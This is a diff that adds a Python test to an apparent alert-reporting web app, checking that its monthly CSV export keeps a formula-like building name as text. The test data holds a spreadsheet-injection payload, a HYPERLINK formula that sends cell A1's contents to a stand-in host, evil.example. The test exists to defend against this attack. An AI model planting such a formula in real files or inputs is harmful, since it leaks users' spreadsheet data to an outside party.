@@ -82,6 +82,20 @@ def test_the_month_csv_has_one_row_per_case_and_its_export_is_logged(site):
         assert s.scalar(select(Audit.target).where(Audit.action == "export")) == "report:2026-05"
 
 
+def test_a_month_csv_cell_that_excel_would_run_as_a_formula_is_kept_as_text(site):
+    parts, app = site
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"3号楼")'  # a name pasted into the roster
+    b3 = parts.roster.buildings["b3"]
+    parts.roster.buildings["b3"] = b3.model_copy(update={"name": formula})
+    parts.roster.buildings["b5"] = parts.roster.buildings["b5"].model_copy(update={"name": "5号楼, 东"})
+    send(parts, alert("garden3-east", "east", "ev-1", floor=12, at=MAY))
+    send(parts, alert("garden5", "south", "ev-2", floor=3, at=MAY + HOUR))  # control: a plain name, a comma
+    r = logged_in(app, "disp").get("/report.csv?month=2026-05")
+    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert [x["building"] for x in rows] == ["'" + formula, "5号楼, 东"]
+    assert [x["floor"] for x in rows] == ["12", "3"]
+
+
 def test_the_month_csv_is_the_local_month_oldest_first(site):
     parts, app = site
     first = dt.datetime(2026, 4, 30, 16, 30, tzinfo=dt.UTC)  # 1 May 00:30 in Shanghai: May
